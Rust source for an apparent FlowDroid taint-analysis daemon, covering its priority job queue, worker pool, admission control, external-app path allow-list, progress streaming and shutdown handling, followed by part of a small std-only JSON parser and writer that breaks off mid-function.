use crate::json::{obj, Json};
use crate::net::{connect, Conn, Listen, Listener};
use crate::proto::{
    denied_line, error_line, rejected_line, AnalyzeRequest, JobResult, Priority, Request,
};
use flowdroid_android::{build_snapshot, load_snapshot, PlatformSnapshot};
use flowdroid_bench::{find_job, run_single_lazy, CorpusJob};
use flowdroid_core::{
    flush_summary_cache, AbortHandle, CgCache, InfoflowConfig, ProgressEvent, ProgressSink,
};
use std::collections::VecDeque;
use std::io::{self, BufRead, BufReader, Write};
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{mpsc, Arc, Condvar, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// Default admission-queue bound (waiting jobs, not running ones).
pub const DEFAULT_QUEUE_CAP: usize = 1024;

/// Consecutive non-batch dequeues after which a waiting batch job is
/// served before further high/normal work (anti-starvation aging).
const AGING_STREAK: u32 = 4;

/// Daemon configuration.
#[derive(Clone, Debug)]
pub struct DaemonOptions {
    /// Where to listen.
    pub listen: Listen,
    /// Worker pool size; `0` uses the available parallelism.
    pub workers: usize,
    /// Persistent summary store shared by all jobs (optional).
    pub summary_cache: Option<PathBuf>,
    /// Path to a `platform.fdps` platform snapshot. When set and valid,
    /// the daemon loads the Android platform model from it at bind time
    /// instead of rebuilding it; a missing or corrupt file falls back to
    /// the eager in-process build (the daemon still starts, just
    /// slower). `None` always builds eagerly.
    pub platform_snapshot: Option<PathBuf>,
    /// Maximum number of *waiting* jobs across all priority lanes;
    /// submissions beyond it get a typed `rejected` reply. `0` means
    /// unbounded (no admission control).
    pub queue_cap: usize,
    /// Directories external apps (on-disk app dirs or `.rpk` archives)
    /// may be served from. Canonicalized at bind time; an `analyze`
    /// request naming a path outside every root — or any path at all
    /// when this is empty — gets a typed `denied` reply. See
    /// [`crate::external::AppPolicy`].
    pub allow_apps: Vec<PathBuf>,
}

impl DaemonOptions {
    /// Options for the given address with defaults otherwise.
    pub fn new(listen: Listen) -> DaemonOptions {
        DaemonOptions {
            listen,
            workers: 0,
            summary_cache: None,
            platform_snapshot: None,
            queue_cap: DEFAULT_QUEUE_CAP,
            allow_apps: Vec::new(),
        }
    }
}

/// The bounded three-lane priority queue feeding the worker pool.
struct PrioQueue {
    inner: Mutex<QueueInner>,
    /// Notified on push and on close.
    ready: Condvar,
}

#[derive(Default)]
struct QueueInner {
    /// One FIFO lane per [`Priority`], indexed by [`Priority::lane`].
    lanes: [VecDeque<(u64, CorpusJob)>; 3],
    /// Closed queues accept no pushes; pops drain what remains.
    closed: bool,
    /// Consecutive high/normal dequeues since the last batch dequeue.
    non_batch_streak: u32,
}

impl PrioQueue {
    fn new() -> PrioQueue {
        PrioQueue { inner: Mutex::new(QueueInner::default()), ready: Condvar::new() }
    }

    fn depth(inner: &QueueInner) -> usize {
        inner.lanes.iter().map(VecDeque::len).sum()
    }

    /// Blocks until a job is available (priority order with batch
    /// aging) or the queue is closed *and* drained.
    fn pop(&self) -> Option<(u64, CorpusJob)> {
        let mut inner = self.inner.lock().unwrap();
        loop {
            if Self::depth(&inner) == 0 {
                if inner.closed {
                    return None;
                }
                inner = self.ready.wait(inner).unwrap();
                continue;
            }
            let batch_due =
                !inner.lanes[2].is_empty() && inner.non_batch_streak >= AGING_STREAK;
            let lane = if batch_due {
                2
            } else if !inner.lanes[0].is_empty() {
                0
            } else if !inner.lanes[1].is_empty() {
                1
            } else {
                2
            };
            if lane == 2 {
                inner.non_batch_streak = 0;
            } else {
                inner.non_batch_streak += 1;
            }
            return inner.lanes[lane].pop_front();
        }
    }

    fn close(&self) {
        self.inner.lock().unwrap().closed = true;
        self.ready.notify_all();
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum JobState {
    Queued,
    Running,
    Done,
}

impl JobState {
    fn as_str(self) -> &'static str {
        match self {
            JobState::Queued => "queued",
            JobState::Running => "running",
            JobState::Done => "done",
        }
    }
}

/// Per-job solver knobs from the `analyze` request.
#[derive(Clone, Debug, Default)]
struct JobSpec {
    max_propagations: u64,
    taint_threads: usize,
    priority: Priority,
    namespace: String,
}

struct JobEntry {
    app: String,
    state: JobState,
    abort: AbortHandle,
    spec: JobSpec,
    submitted: Instant,
    queue_ms: u64,
    cancel_requested: bool,
    /// Streaming sink handed to the worker when the job starts; the
    /// worker takes it (even for skipped jobs) so the relay's channel
    /// disconnects once no more events can arrive.
    progress: Option<ProgressSink>,
    result: Option<JobResult>,
}

#[derive(Default)]
struct Inner {
    jobs: Vec<JobEntry>,
    shutting_down: bool,
    /// Set once a `shutdown` handler has written (or failed to write)
    /// its reply; [`Daemon::run`] must not return — and thus let the
    /// process exit — before the requester has been answered.
    shutdown_replied: bool,
    /// Submissions rejected by admission control.
    rejected: u64,
    /// Submissions refused by the external-app path policy.
    denied: u64,
    /// Accepted submissions per priority lane.
    submitted: [u64; 3],
    /// Scheduler counters summed over completed parallel jobs.
    sched_pushed: u64,
    sched_claims: u64,
    sched_steals: u64,
}

struct Shared {
    inner: Mutex<Inner>,
    /// Notified whenever a job reaches `Done`.
    done: Condvar,
    /// The admission queue feeding the worker pool.
    queue: PrioQueue,
    /// Waiting-job bound ([`DaemonOptions::queue_cap`]; 0 = unbounded).
    queue_cap: usize,
    /// Set before the accept loop is woken for the last time.
    stop_accept: AtomicBool,
    summary_cache: Option<PathBuf>,
    /// The external-app sandbox ([`DaemonOptions::allow_apps`]).
    policy: AppPolicy,
    /// The shared, read-only platform model every job overlays.
    snapshot: Arc<PlatformSnapshot>,
    /// Daemon-resident callgraph / entry-point cache shared by all
    /// workers; repeat jobs on the same app replay the cached setup.
    cg_cache: CgCache,
    /// Time spent obtaining the platform model at bind time.
    snapshot_load_ms: u64,
    /// `"file"` when loaded from a `platform.fdps`, `"built"` otherwise.
    snapshot_source: &'static str,
    /// Resolved listen address (used to self-connect on shutdown).
    addr: Listen,
    workers: usize,
    started: Instant,
}

/// A bound, running daemon (workers are live; call [`Daemon::run`] to
/// serve connections).
pub struct Daemon {
    listener: Listener,
    shared: Arc<Shared>,
    workers: Vec<JoinHandle<()>>,
}

impl Daemon {
    /// Binds the listen address and starts the worker pool.
    pub fn bind(opts: DaemonOptions) -> io::Result<Daemon> {
        let policy = AppPolicy::new(&opts.allow_apps)?;
        let listener = Listener::bind(&opts.listen)?;
        let addr = listener.local_addr()?;
        let workers = if opts.workers == 0 {
            std::thread::available_parallelism().map_or(2, |n| n.get())
        } else {
            opts.workers
        };
        let load_start = Instant::now();
        let (snapshot, snapshot_source) = match &opts.platform_snapshot {
            Some(path) => match load_snapshot(path) {
                Ok(snap) => (snap, "file"),
                Err(e) => {
                    // A bad snapshot must not keep the daemon down:
                    // fall back to the eager platform build.
                    eprintln!(
                        "flowdroid-service: ignoring platform snapshot {}: {e}",
                        path.display()
                    );
                    (build_snapshot(), "built")
                }
            },
            None => (build_snapshot(), "built"),
        };
        let snapshot_load_ms = load_start.elapsed().as_millis() as u64;
        let shared = Arc::new(Shared {
            inner: Mutex::new(Inner::default()),
            done: Condvar::new(),
            queue: PrioQueue::new(),
            queue_cap: opts.queue_cap,
            stop_accept: AtomicBool::new(false),
            summary_cache: opts.summary_cache,
            policy,
            snapshot: Arc::new(snapshot),
            // Comfortably above the full corpus size, so a service
            // benchmark sweep stays warm end to end.
            cg_cache: CgCache::new(256),
            snapshot_load_ms,
            snapshot_source,
            addr,
            workers,
            started: Instant::now(),
        });
        let pool = (0..workers)
            .map(|_| {
                let shared = Arc::clone(&shared);
                std::thread::spawn(move || worker_loop(&shared))
            })
            .collect();
        Ok(Daemon { listener, shared, workers: pool })
    }

    /// The resolved listen address (with the real port for `:0` binds).
    pub fn local_addr(&self) -> Listen {
        self.shared.addr.clone()
    }

    /// Serves connections until a `shutdown` request completes; worker
    /// threads are joined before returning.
    pub fn run(self) -> io::Result<()> {
        loop {
            if self.shared.stop_accept.load(Ordering::SeqCst) {
                break;
            }
            match self.listener.accept() {
                Ok(conn) => {
                    if self.shared.stop_accept.load(Ordering::SeqCst) {
                        break; // the shutdown self-connect
                    }
                    let shared = Arc::clone(&self.shared);
                    std::thread::spawn(move || handle_conn(&shared, conn));
                }
                Err(_) if self.shared.stop_accept.load(Ordering::SeqCst) => break,
                Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
                Err(e) => return Err(e),
            }
        }
        for w in self.workers {
            let _ = w.join();
        }
        // The shutdown handler runs on a detached connection thread and
        // only writes its reply after the drain; wait for it so a
        // process hosting the daemon can't exit mid-reply.
        let mut inner = self.shared.inner.lock().unwrap();
        while !inner.shutdown_replied {
            inner = self.shared.done.wait(inner).unwrap();
        }
        Ok(())
    }
}

// ================= worker pool =================

fn worker_loop(shared: &Shared) {
    // `pop` blocks priority-aware; `None` means closed and drained.
    while let Some((id, job)) = shared.queue.pop() {
        run_one(shared, id, &job);
    }
}

fn run_one(shared: &Shared, id: u64, job: &CorpusJob) {
    let idx = (id - 1) as usize;
    let (abort, spec, app, queue_ms, progress, skip) = {
        let mut inner = shared.inner.lock().unwrap();
        let e = &mut inner.jobs[idx];
        e.queue_ms = e.submitted.elapsed().as_millis() as u64;
        e.state = JobState::Running;
        // A cancel — or a deadline that already passed — while the job
        // sat in the queue aborts it without running the solver at all.
        let skip = e.abort.poll().is_some();
        // Take the streaming sink even when skipping: dropping it is
        // what tells the relay no more events can arrive.
        (e.abort.clone(), e.spec.clone(), e.app.clone(), e.queue_ms, e.progress.take(), skip)
    };
    let mut sched = None;
    let result = if skip {
        drop(progress);
        JobResult {
            job: id,
            app,
            aborted: true,
            abort_reason: abort.reason().map(|r| r.as_str().to_string()),
            queue_ms,
            ..JobResult::default()
        }
    } else {
        let mut config = InfoflowConfig::default().with_abort(abort).with_lazy_frontend(true);
        config.max_propagations = spec.max_propagations;
        config.taint_threads = spec.taint_threads;
        config.cache_namespace = spec.namespace;
        config.progress = progress;
        config.summary_cache.clone_from(&shared.summary_cache);
        let mut run = run_single_lazy(job, &config, &shared.snapshot, Some(&shared.cg_cache));
        if !run.aborted {
            if let Some(dir) = &shared.summary_cache {
                // Promote this job's staged summaries so the *next* job
                // starts warm. Aborted jobs staged nothing, so skipping
                // the flush there is just noise avoidance.
                let _ = flush_summary_cache(dir);
            }
        }
        sched = run.scheduler.take();
        let sc = run.summary_cache.as_ref();
        JobResult {
            job: id,
            app,
            leaks: run.leaks as u64,
            aborted: run.aborted,
            abort_reason: run.abort_reason.map(|r| r.as_str().to_string()),
            wall_ms: run.total.as_millis() as u64,
            queue_ms,
            setup_us: run.setup().as_micros() as u64,
            dataflow_us: run.dataflow.as_micros() as u64,
            bodies_materialized: run.bodies_materialized,
            bodies_skipped: run.bodies_skipped,
            forward_propagations: run.forward_propagations,
            backward_propagations: run.backward_propagations,
            summary_hits: sc.map_or(0, |s| s.hits),
            summary_misses: sc.map_or(0, |s| s.misses),
            summary_stale: sc.map_or(0, |s| s.stale),
            summary_recorded: sc.map_or(0, |s| s.recorded),
            platform_clone_us: run.platform_clone_us,
            callgraph_cache_hits: u64::from(run.cg_cache_hit == Some(true)),
            callgraph_cache_misses: u64::from(run.cg_cache_hit == Some(false)),
            report: run.report,
        }
    };
    let mut inner = shared.inner.lock().unwrap();
    if let Some(s) = sched {
        inner.sched_pushed += s.pushed;
        inner.sched_claims += s.claims;
        inner.sched_steals += s.steals;
    }
    inner.jobs[idx].state = JobState::Done;
    inner.jobs[idx].result = Some(result);
    drop(inner);
    shared.done.notify_all();
}

// ================= request handling =================

fn handle_conn(shared: &Shared, conn: Box<dyn Conn>) {
    let mut reader = BufReader::new(conn);
    let mut line = String::new();
    loop {
        line.clear();
        match reader.read_line(&mut line) {
            Ok(0) | Err(_) => return, // client closed
            Ok(_) => {}
        }
        let trimmed = line.trim();
        if trimmed.is_empty() {
            continue;
        }
        let keep_going = match Request::parse(trimmed) {
            Err(e) => write_line(reader.get_mut(), &error_line(&e)).is_ok(),
            Ok(Request::Analyze(req)) => handle_analyze(shared, &mut reader, &req).is_ok(),
            Ok(Request::Cancel { job }) => {
                let reply = match cancel(shared, job) {
                    Ok(state) => obj([
                        ("type", Json::from("ok")),
                        ("op", Json::from("cancel")),
                        ("job", Json::from(job)),
                        ("state", Json::from(state)),
                    ])
                    .to_line(),
                    Err(e) => error_line(&e),
                };
                write_line(reader.get_mut(), &reply).is_ok()
            }
            Ok(Request::Stats) => write_line(reader.get_mut(), &stats(shared).to_line()).is_ok(),
            Ok(Request::Shutdown) => {
                close_queue(shared);
                // Wake the accept loop while a Unix socket path still
                // exists (the self-connect needs it), then unlink the
                // path immediately: the address must disappear even
                // while workers are still mid-job in the drain below.
                shared.stop_accept.store(true, Ordering::SeqCst);
                let _ = connect(&shared.addr);
                #[cfg(unix)]
                if let Listen::Unix(path) = &shared.addr {
                    let _ = std::fs::remove_file(path);
                }
                let reply = drain(shared);
                let _ = write_line(reader.get_mut(), &reply.to_line());
                let mut inner = shared.inner.lock().unwrap();
                inner.shutdown_replied = true;
                drop(inner);
                shared.done.notify_all();
                return;
            }
        };
        if !keep_going {
            return;
        }
    }
}

fn handle_analyze(
    shared: &Shared,
    reader: &mut BufReader<Box<dyn Conn>>,
    req: &AnalyzeRequest,
) -> io::Result<()> {
    let spec = JobSpec {
        max_propagations: req.max_propagations.unwrap_or(0),
        taint_threads: req.taint_threads.unwrap_or(0) as usize,
        priority: req.priority,
        namespace: req.namespace.clone(),
    };
    // A streamed job gets a channel-backed sink: the solver's threads
    // send events, this connection thread relays them as frames.
    let (progress, frames) = if req.stream {
        let (tx, rx) = mpsc::channel::<ProgressEvent>();
        let tx = Mutex::new(tx);
        let sink = ProgressSink::new(move |e: &ProgressEvent| {
            let _ = tx.lock().unwrap().send(e.clone());
        });
        (Some(sink), Some(rx))
    } else {
        (None, None)
    };
    match submit(shared, &req.app, req.deadline_ms, spec, progress) {
        Err(Refusal::Error(e)) => write_line(reader.get_mut(), &error_line(&e)),
        Err(Refusal::PolicyDenied(e)) => write_line(reader.get_mut(), &denied_line(&e)),
        Err(Refusal::QueueFull { depth }) => {
            write_line(reader.get_mut(), &rejected_line(depth as u64, shared.queue_cap as u64))
        }
        Ok(id) => {
            let queued =
                obj([("type", Json::from("queued")), ("job", Json::from(id))]).to_line();
            write_line(reader.get_mut(), &queued)?;
            if let Some(rx) = frames {
                relay_frames(reader.get_mut(), id, &rx)?;
            }
            let result = wait_done(shared, id);
            write_line(reader.get_mut(), &result.to_json().to_line())
        }
    }
}

/// Interval between `progress` frames on a streamed connection; events
/// arriving faster are coalesced (latest wins). `leak` frames are never
/// throttled.
const PROGRESS_FRAME_EVERY: Duration = Duration::from_millis(25);

/// Relays [`ProgressEvent`]s as wire frames until the worker drops the
/// sink (job finished, skipped, or aborted).
fn relay_frames(
    conn: &mut Box<dyn Conn>,
    id: u64,
    rx: &mpsc::Receiver<ProgressEvent>,
) -> io::Result<()> {
    let mut pending: Option<ProgressEvent> = None;
    let mut last_frame: Option<Instant> = None;
    loop {
        match rx.recv_timeout(PROGRESS_FRAME_EVERY) {
            Ok(e) => {
                if let Some((line, taint)) = &e.new_leak {
                    let frame = obj([
                        ("type", Json::from("leak")),
                        ("job", Json::from(id)),
                        ("sink_line", Json::from(u64::from(*line))),
                        ("taint", Json::from(taint.as_str())),
                    ]);
                    write_line(conn, &frame.to_line())?;
                }
                let due = last_frame.is_none_or(|t| t.elapsed() >= PROGRESS_FRAME_EVERY);
                pending = Some(e);
                if due {
                    write_progress_frame(conn, id, &mut pending)?;
                    last_frame = Some(Instant::now());
                }
            }
            Err(mpsc::RecvTimeoutError::Timeout) => {
                if pending.is_some() {
                    write_progress_frame(conn, id, &mut pending)?;
                    last_frame = Some(Instant::now());
                }
            }
            Err(mpsc::RecvTimeoutError::Disconnected) => {
                // Flush the last coalesced snapshot so short jobs still
                // show their final counters before the result line.
                return write_progress_frame(conn, id, &mut pending);
            }
        }
    }
}

fn write_progress_frame(
    conn: &mut Box<dyn Conn>,
    id: u64,
    pending: &mut Option<ProgressEvent>,
) -> io::Result<()> {
    let Some(e) = pending.take() else { return Ok(()) };
    let frame = obj([
        ("type", Json::from("progress")),
        ("job", Json::from(id)),
        ("forward_propagations", Json::from(e.forward_propagations)),
        ("backward_propagations", Json::from(e.backward_propagations)),
        ("bodies_materialized", Json::from(e.bodies_materialized)),
        ("summary_hits", Json::from(e.summary_hits)),
        ("leaks", Json::from(e.leaks)),
    ]);
    write_line(conn, &frame.to_line())
}

/// Why a submission was refused.
enum Refusal {
    /// Protocol-level error (unknown app, shutting down).
    Error(String),
    /// Admission control: the queue is at capacity (backpressure).
    QueueFull { depth: usize },
    /// The external-app path policy refused the path (typed `denied`
    /// reply, distinct from `error` so clients can exit differently).
    PolicyDenied(String),
}

/// Validates the app name, registers the job and queues it on the
/// requested priority lane. The job id is its 1-based submission index.
/// Admission and registration happen under the queue lock, so the
/// waiting-job bound is exact even under concurrent submissions.
///
/// Path-shaped names (leading `/`, `./`, `../` or a `.rpk` suffix) are
/// external apps: they pass the allow-list policy, then load and parse
/// *here*, against a throwaway overlay of the shared platform snapshot
/// — a malformed app must be refused at submission, not panic a worker.
fn submit(
    shared: &Shared,
    app: &str,
    deadline_ms: Option<u64>,
    spec: JobSpec,
    progress: Option<ProgressSink>,
) -> Result<u64, Refusal> {
    let job = if is_path_request(app) {
        let real = shared.policy.resolve(app).map_err(|e| {
            shared.inner.lock().unwrap().denied += 1;
            Refusal::PolicyDenied(e.to_string())
        })?;
        let mut scratch = shared.snapshot.overlay_program();
        load_external_job(&real, &mut scratch)
            .map_err(|e| Refusal::Error(format!("cannot load app `{app}`: {e}")))?
    } else {
        find_job(app).ok_or_else(|| {
            Refusal::Error(format!(
                "unknown app `{app}` (expected a corpus name, `stress/<K>`, or an \
                 allowed app path)"
            ))
        })?
    };
    let abort = match deadline_ms {
        Some(ms) => AbortHandle::with_deadline(Duration::from_millis(ms)),
        None => AbortHandle::new(),
    };
    let priority = spec.priority;
    // Lock order: queue, then registry (matches nowhere else taking
    // both, so no inversion is possible).
    let mut q = shared.queue.inner.lock().unwrap();
    if q.closed {
        return Err(Refusal::Error("daemon is shutting down".to_string()));
    }
    let depth = PrioQueue::depth(&q);
    if shared.queue_cap > 0 && depth >= shared.queue_cap {
        let mut inner = shared.inner.lock().unwrap();
        inner.rejected += 1;
        return Err(Refusal::QueueFull { depth });
    }
    let id = {
        let mut inner = shared.inner.lock().unwrap();
        if inner.shutting_down {
            return Err(Refusal::Error("daemon is shutting down".to_string()));
        }
        inner.submitted[priority.lane()] += 1;
        inner.jobs.push(JobEntry {
            app: app.to_string(),
            state: JobState::Queued,
            abort,
            spec,
            submitted: Instant::now(),
            queue_ms: 0,
            cancel_requested: false,
            progress,
            result: None,
        });
        inner.jobs.len() as u64
    };
    q.lanes[priority.lane()].push_back((id, job));
    drop(q);
    shared.queue.ready.notify_one();
    Ok(id)
}

fn wait_done(shared: &Shared, id: u64) -> JobResult {
    let idx = (id - 1) as usize;
    let mut inner = shared.inner.lock().unwrap();
    loop {
        if let Some(r) = &inner.jobs[idx].result {
            return r.clone();
        }
        inner = shared.done.wait(inner).unwrap();
    }
}

/// Trips the job's abort handle. Queued jobs are skipped by the worker
/// that claims them; running jobs wind down at their next poll.
fn cancel(shared: &Shared, id: u64) -> Result<&'static str, String> {
    let idx = id.checked_sub(1).ok_or("unknown job 0")? as usize;
    let mut inner = shared.inner.lock().unwrap();
    let e = inner.jobs.get_mut(idx).ok_or_else(|| format!("unknown job {id}"))?;
    let state = e.state.as_str();
    if e.state != JobState::Done {
        e.abort.cancel();
        e.cancel_requested = true;
    }
    Ok(state)
}

fn stats(shared: &Shared) -> Json {
    let cache = shared.cg_cache.stats();
    let inner = shared.inner.lock().unwrap();
    let mut by_state = [0u64; 3];
    let mut aborted = 0u64;
    let mut cancel_requests = 0u64;
    let mut hits = 0u64;
    let mut misses = 0u64;
    let mut stale = 0u64;
    let mut recorded = 0u64;
    let mut materialized = 0u64;
    let mut skipped = 0u64;
    let mut clone_us = 0u64;
    let mut cg_hits = 0u64;
    let mut cg_misses = 0u64;
    let mut jobs = Vec::new();
    for (i, e) in inner.jobs.iter().enumerate() {
        by_state[e.state as usize] += 1;
        cancel_requests += u64::from(e.cancel_requested);
        let mut fields = vec![
            ("job", Json::from(i as u64 + 1)),
            ("app", Json::from(e.app.as_str())),
            ("state", Json::from(e.state.as_str())),
        ];
        fields.push(("priority", Json::from(e.spec.priority.as_str())));
        if e.state != JobState::Queued {
            fields.push(("queue_ms", Json::from(e.queue_ms)));
        }
        if let Some(r) = &e.result {
            aborted += u64::from(r.aborted);
            hits += r.summary_hits;
            misses += r.summary_misses;
            stale += r.summary_stale;
            recorded += r.summary_recorded;
            materialized += r.bodies_materialized;
            skipped += r.bodies_skipped;
            clone_us += r.platform_clone_us;
            cg_hits += r.callgraph_cache_hits;
            cg_misses += r.callgraph_cache_misses;
            fields.push(("wall_ms", Json::from(r.wall_ms)));
            fields.push(("setup_us", Json::from(r.setup_us)));
            fields.push(("dataflow_us", Json::from(r.dataflow_us)));
            fields.push(("leaks", Json::from(r.leaks)));
            fields.push(("aborted", Json::from(r.aborted)));
            if let Some(why) = &r.abort_reason {
                fields.push(("abort_reason", Json::from(why.as_str())));
            }
        }
        jobs.push(obj(fields));
    }
    let store_tiers = shared.summary_cache.as_ref().map(|dir| {
        Json::Arr(
            flowdroid_summaries::tier_stats(dir)
                .into_iter()
                .map(|t| {
                    obj([
                        ("tier", Json::from(t.name)),
                        ("hits", Json::from(t.stats.hits)),
                        ("misses", Json::from(t.stats.misses)),
                        ("writes", Json::from(t.stats.writes)),
                        ("promotions", Json::from(t.stats.promotions)),
                    ])
                })
                .collect(),
        )
    });
    let mut top = vec![
        ("type", Json::from("stats")),
        ("uptime_ms", Json::from(shared.started.elapsed().as_millis() as u64)),
        ("workers", Json::from(shared.workers)),
        ("queue_cap", Json::from(shared.queue_cap as u64)),
        ("queue_depth", Json::from(by_state[JobState::Queued as usize])),
        ("running", Json::from(by_state[JobState::Running as usize])),
        ("completed", Json::from(by_state[JobState::Done as usize])),
        ("aborted", Json::from(aborted)),
        ("rejected", Json::from(inner.rejected)),
        ("policy_denied", Json::from(inner.denied)),
        ("submitted_high", Json::from(inner.submitted[Priority::High.lane()])),
        ("submitted_normal", Json::from(inner.submitted[Priority::Normal.lane()])),
        ("submitted_batch", Json::from(inner.submitted[Priority::Batch.lane()])),
        ("cancel_requests", Json::from(cancel_requests)),
        ("summary_hits", Json::from(hits)),
        ("summary_misses", Json::from(misses)),
        ("summary_stale", Json::from(stale)),
        ("summary_recorded", Json::from(recorded)),
        ("snapshot_load_ms", Json::from(shared.snapshot_load_ms)),
        ("snapshot_source", Json::from(shared.snapshot_source)),
        ("bodies_materialized", Json::from(materialized)),
        ("bodies_skipped", Json::from(skipped)),
        ("platform_clone_us", Json::from(clone_us)),
        ("callgraph_cache_hits", Json::from(cg_hits)),
        ("callgraph_cache_misses", Json::from(cg_misses)),
        ("callgraph_cache_evictions", Json::from(cache.evictions)),
        ("callgraph_cache_invalidations", Json::from(cache.invalidations)),
        ("callgraph_cache_entries", Json::from(cache.entries as u64)),
        ("sched_pushed", Json::from(inner.sched_pushed)),
        ("sched_claims", Json::from(inner.sched_claims)),
        ("sched_steals", Json::from(inner.sched_steals)),
    ];
    if let Some(tiers) = store_tiers {
        top.push(("store_tiers", tiers));
    }
    top.push(("jobs", Json::Arr(jobs)));
    obj(top)
}

/// Marks the daemon as shutting down and closes the queue: no further
/// submissions are accepted, and the workers drain what is already
/// queued and exit their pop loop. Idempotent.
fn close_queue(shared: &Shared) {
    {
        let mut inner = shared.inner.lock().unwrap();
        inner.shutting_down = true;
    }
    shared.queue.close();
}

/// Waits for every accepted job to finish and flushes the summary
/// cache. Idempotent: a second `shutdown` request waits for the same
/// drain and reports the same counts.
fn drain(shared: &Shared) -> Json {
    let mut inner = shared.inner.lock().unwrap();
    while inner.jobs.iter().any(|e| e.state != JobState::Done) {
        inner = shared.done.wait(inner).unwrap();
    }
    let completed = inner.jobs.len() as u64;
    drop(inner);
    if let Some(dir) = &shared.summary_cache {
        let _ = flush_summary_cache(dir);
    }
    obj([
        ("type", Json::from("ok")),
        ("op", Json::from("shutdown")),
        ("jobs_completed", Json::from(completed)),
    ])
}

fn write_line(conn: &mut Box<dyn Conn>, line: &str) -> io::Result<()> {
    conn.write_all(line.as_bytes())?;
    conn.write_all(b"\n")?;
    conn.flush()
}
