//! A minimal JSON value type with parser and writer.
//!
//! The wire protocol is line-delimited JSON; the build environment has
//! no crates.io access, so this is a small std-only implementation
//! covering exactly what the protocol needs: objects, arrays, strings
//! (with escapes), numbers, booleans and `null`. Numbers are carried as
//! `f64` — every counter the protocol ships fits in the 53-bit integer
//! range.

use std::fmt::Write as _;

/// A JSON value.
#[derive(Clone, Debug, PartialEq)]
pub enum Json {
    /// `null`.
    Null,
    /// `true` / `false`.
    Bool(bool),
    /// A number (integers up to 2^53 round-trip exactly).
    Num(f64),
    /// A string.
    Str(String),
    /// An array.
    Arr(Vec<Json>),
    /// An object; insertion order is preserved when writing.
    Obj(Vec<(String, Json)>),
}

impl Json {
    /// Object field lookup (first match); `None` on non-objects.
    pub fn get(&self, key: &str) -> Option<&Json> {
        match self {
            Json::Obj(fields) => fields.iter().find(|(k, _)| k == key).map(|(_, v)| v),
            _ => None,
        }
    }

    /// The value as a string slice, if it is one.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Json::Str(s) => Some(s),
            _ => None,
        }
    }

    /// The value as a bool, if it is one.
    pub fn as_bool(&self) -> Option<bool> {
        match self {
            Json::Bool(b) => Some(*b),
            _ => None,
        }
    }

    /// The value as a non-negative integer, if it is a number.
    pub fn as_u64(&self) -> Option<u64> {
        match self {
            Json::Num(n) if *n >= 0.0 => Some(*n as u64),
            _ => None,
        }
    }

    /// The value as an array slice, if it is one.
    pub fn as_arr(&self) -> Option<&[Json]> {
        match self {
            Json::Arr(v) => Some(v),
            _ => None,
        }
    }

    /// Shorthand for `get(key).and_then(as_str)`.
    pub fn str_field(&self, key: &str) -> Option<&str> {
        self.get(key).and_then(Json::as_str)
    }

    /// Shorthand for `get(key).and_then(as_u64)`.
    pub fn u64_field(&self, key: &str) -> Option<u64> {
        self.get(key).and_then(Json::as_u64)
    }

    /// Shorthand for `get(key).and_then(as_bool)`.
    pub fn bool_field(&self, key: &str) -> Option<bool> {
        self.get(key).and_then(Json::as_bool)
    }

    /// Renders the value on one line (no trailing newline).
    pub fn to_line(&self) -> String {
        let mut out = String::new();
        self.write(&mut out);
        out
    }

    fn write(&self, out: &mut String) {
        match self {
            Json::Null => out.push_str("null"),
            Json::Bool(true) => out.push_str("true"),
            Json::Bool(false) => out.push_str("false"),
            Json::Num(n) => {
                // Integers print without a fractional part.
                if n.fract() == 0.0 && n.abs() < 9.0e15 {
                    write!(out, "{}", *n as i64).unwrap();
                } else {
                    write!(out, "{n}").unwrap();
                }
            }
            Json::Str(s) => write_escaped(out, s),
            Json::Arr(items) => {
                out.push('[');
                for (i, v) in items.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    v.write(out);
                }
                out.push(']');
            }
            Json::Obj(fields) => {
                out.push('{');
                for (i, (k, v)) in fields.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    write_escaped(out, k);
                    out.push(':');
                    v.write(out);
                }
                out.push('}');
            }
        }
    }
}

impl From<&str> for Json {
    fn from(s: &str) -> Json {
        Json::Str(s.to_string())
    }
}

impl From<String> for Json {
    fn from(s: String) -> Json {
        Json::Str(s)
    }
}

impl From<bool> for Json {
    fn from(b: bool) -> Json {
        Json::Bool(b)
    }
}

impl From<u64> for Json {
    fn from(n: u64) -> Json {
        Json::Num(n as f64)
    }
}

impl From<usize> for Json {
    fn from(n: usize) -> Json {
        Json::Num(n as f64)
    }
}

/// Builds an object from `(key, value)` pairs (a tidy literal syntax
/// for response lines).
pub fn obj(fields: impl IntoIterator<Item = (&'static str, Json)>) -> Json {
    Json::Obj(fields.into_iter().map(|(k, v)| (k.to_string(), v)).collect())
}

fn write_escaped(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => write!(out, "\\u{:04x}", c as u32).unwrap(),
            c => out.push(c),
        }
    }
    out.push('"');
}

/// Parses one JSON document; trailing whitespace is allowed, trailing
/// garbage is an error.
pub fn parse(input: &str) -> Result<Json, ParseError> {
    let mut p = Parser { bytes: input.as_bytes(), pos: 0 };
    p.skip_ws();
    let v = p.value()?;
    p.skip_ws();
    if p.pos != p.bytes.len() {
        return Err(p.err("trailing characters after value"));
    }
    Ok(v)
}

/// A parse failure with its byte offset.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ParseError {
    /// Byte offset of the failure.
    pub pos: usize,
    /// What went wrong.
    pub message: String,
}

impl std::fmt::Display for ParseError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "invalid JSON at byte {}: {}", self.pos, self.message)
    }
}

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl Parser<'_> {
    fn err(&self, message: &str) -> ParseError {
        ParseError { pos: self.pos, message: message.to_string() }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn skip_ws(&mut self) {
        while matches!(self.peek(), Some(b' ' | b'\t' | b'\n' | b'\r')) {
            self.pos += 1;
        }
    }

    fn expect(&mut self, b: u8) -> Result<(), ParseError> {
        if self.peek() == Some(b) {
            self.pos += 1;
